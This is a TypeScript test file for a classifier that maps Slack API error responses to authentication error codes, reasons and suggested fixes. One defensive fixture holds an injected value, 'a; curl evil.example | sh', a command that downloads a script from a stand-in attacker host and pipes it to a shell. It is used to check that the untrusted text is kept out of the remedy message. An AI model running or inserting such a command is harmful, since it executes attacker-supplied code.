import { describe, expect, it } from "vitest";

import { classify } from "./classify.ts";

const tokenUrl = "https://api.slack.com/apps";

function classified(body: unknown, status = 200) {
  return classify({ status, headers: new Headers(), body, source: "env SLACK_BOT_TOKEN" }, { tokenUrl });
}

describe("a refusal, which comes with status 200", () => {
  it.each([
    ["not_authed", "AUTH_TOKEN_REJECTED"],
    ["invalid_auth", "AUTH_TOKEN_REJECTED"],
    ["account_inactive", "AUTH_TOKEN_REJECTED"],
    ["token_revoked", "AUTH_TOKEN_REJECTED"],
    ["token_expired", "AUTH_TOKEN_EXPIRED"],
    ["not_allowed_token_type", "AUTH_PERMISSION_DENIED"],
    ["missing_scope", "AUTH_PERMISSION_DENIED"],
    ["no_permission", "AUTH_PERMISSION_DENIED"],
    ["access_denied", "AUTH_PERMISSION_DENIED"],
    ["team_access_not_granted", "AUTH_PERMISSION_DENIED"],
    ["enterprise_is_restricted", "AUTH_PERMISSION_DENIED"],
    ["ekm_access_denied", "AUTH_PERMISSION_DENIED"],
    ["accesslimited", "AUTH_PERMISSION_DENIED"],
    ["two_factor_setup_required", "AUTH_PERMISSION_DENIED"],
    ["org_login_required", "AUTH_UNREACHABLE"],
    ["team_added_to_org", "AUTH_UNREACHABLE"],
    ["ratelimited", "AUTH_RATE_LIMITED"],
    ["service_unavailable", "AUTH_UNREACHABLE"],
    ["internal_error", "AUTH_UNREACHABLE"],
    ["fatal_error", "AUTH_UNREACHABLE"],
    ["request_timeout", "AUTH_UNREACHABLE"],
    ["invalid_arguments", "AUTH_RESPONSE_MALFORMED"],
    ["invalid_form_data", "AUTH_RESPONSE_MALFORMED"],
    ["missing_post_type", "AUTH_RESPONSE_MALFORMED"],
    ["json_not_object", "AUTH_RESPONSE_MALFORMED"],
    ["unknown_method", "AUTH_RESPONSE_MALFORMED"],
    ["method_deprecated", "AUTH_RESPONSE_MALFORMED"],
  ])("is judged by its word: %s", (error, code) => {
    const { reason, ...meaning } = classified({ ok: false, error });
    expect(meaning).toMatchObject({ code });
    expect(reason).toContain(error);
    // Under a status of its own it means the same.
    expect(classified({ ok: false, error }, 403)).toMatchObject({ code });
  });

  it.each(["brand_new", "channel_not_found", "constructor", "__proto__"])(
    "is not taken for one of the token's where the word is not known: %s",
    (error) => {
      expect(classified({ ok: false, error })).toEqual({ code: undefined, reason: error, remedy: undefined });
    },
  );

  it("of invalid_auth names both things that it can mean", () => {
    const { reason, remedy } = classified({ ok: false, error: "invalid_auth" });
    expect(reason).toMatch(/not known.*IP address/);
    expect(remedy).toBe(
      "Replace the token in env SLACK_BOT_TOKEN by a new one from https://api.slack.com/apps, or have this IP address allowed there.",
    );
  });

  it("of no token blames what is on the way", () => {
    expect(classified({ ok: false, error: "not_authed" }).remedy).toMatch(/proxy.*Authorization/);
  });
});

describe("missing_scope", () => {
  it("says what is needed, what there is, and what to add", () => {
    const body = {
      ok: false,
      error: "missing_scope",
      needed: "channels:read",
      provided: "chat:write,files:read",
    };
    expect(classified(body)).toEqual({
      code: "AUTH_PERMISSION_DENIED",
      reason: "it lacks channels:read and has chat:write,files:read (missing_scope)",
      remedy:
        "Add the scope channels:read to the app at https://api.slack.com/apps, and install the app again.",
    });
  });

  it("says so without the names where Slack gives none, or none that can be followed", () => {
    expect(classified({ ok: false, error: "missing_scope" })).toMatchObject({
      reason: "it lacks a scope (missing_scope)",
      remedy: expect.stringContaining("Add the scope to the app"),
    });
    const odd = { ok: false, error: "missing_scope", needed: "a; curl evil.example | sh", provided: 7 };
    expect(classified(odd).remedy).not.toContain("evil");
  });
});

describe("leaves it to the status", () => {
  it.each([
    ["a success", { ok: true, error: "invalid_auth" }],
    ["a gateway's page", "<h1>Bad gateway</h1>"],
    ["an empty body", undefined],
    ["null", null],
    ["a list", [{ ok: false, error: "invalid_auth" }]],
    ["a word of another type", { ok: false, error: 401 }],
    ["a word of the prototype's", Object.create({ ok: false, error: "invalid_auth" })],
  ])("of %s", (_, body) => {
    expect(classified(body, 502)).toEqual({});
  });
});
